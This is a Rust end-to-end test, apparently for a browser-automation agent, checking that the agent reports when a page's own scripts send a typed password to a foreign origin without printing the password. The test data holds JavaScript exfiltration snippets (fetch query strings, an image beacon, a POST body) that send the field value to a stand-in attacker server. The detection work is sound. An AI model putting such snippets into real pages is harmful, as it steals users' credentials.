//! A secret that the page's own scripts send to another origin is told of.

use super::origins::{FIELD, Thief, VALUE, page};
use super::*;

#[e2e::test]
async fn what_scripts_send_elsewhere_is_told(app: App, agent: Agent) -> e2e::Result {
    let away = "fetch('ADDRESS?' + value, { mode: 'no-cors' })";
    let picture = "new Image().src = 'ADDRESS?v=' + encodeURIComponent(value)";
    let body =
        "fetch('ADDRESS', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ value }) })";
    let buttons = "<button onclick=\"more.disabled = false\">Other</button><button id=more disabled onclick='this.remove()'>More</button>";
    for (what, send, may_go, is_told) in [
        ("in an address", away, false, true),
        ("in a picture's", picture, false, true),
        ("in a body", body, false, true),
        ("where it may go", away, true, false),
        ("to the app", "fetch('/got?' + value)", false, false),
        (
            "nothing of it",
            "fetch('ADDRESS?typed', { mode: 'no-cors' })",
            false,
            false,
        ),
    ] {
        // It is told once for each origin, so each row has its own.
        let thief = Thief::start().await;
        let send = send.replace("ADDRESS", &format!("{}/got", thief.origin));
        let field = FIELD.replace("<input", &format!("<input onchange=\"{send}\""));
        app.open(&page(&format!("{field}{buttons}"))).await?;
        let secret = match may_go {
            true => Secret::new(VALUE).allow_origin(&thief.origin),
            false => Secret::new(VALUE),
        };
        let step = agent.act("type {pw} into Password, then click Other, then click More");
        let told = format!("{:?}", step.secret("pw", secret).await?);
        let line = format!("sent the secret `pw` to {}", thief.origin);
        assert_eq!(told.contains(&line), is_told, "{what}: {told}");
        assert!(!told.contains(VALUE), "{what}: {told}");
    }
    Ok(())
}
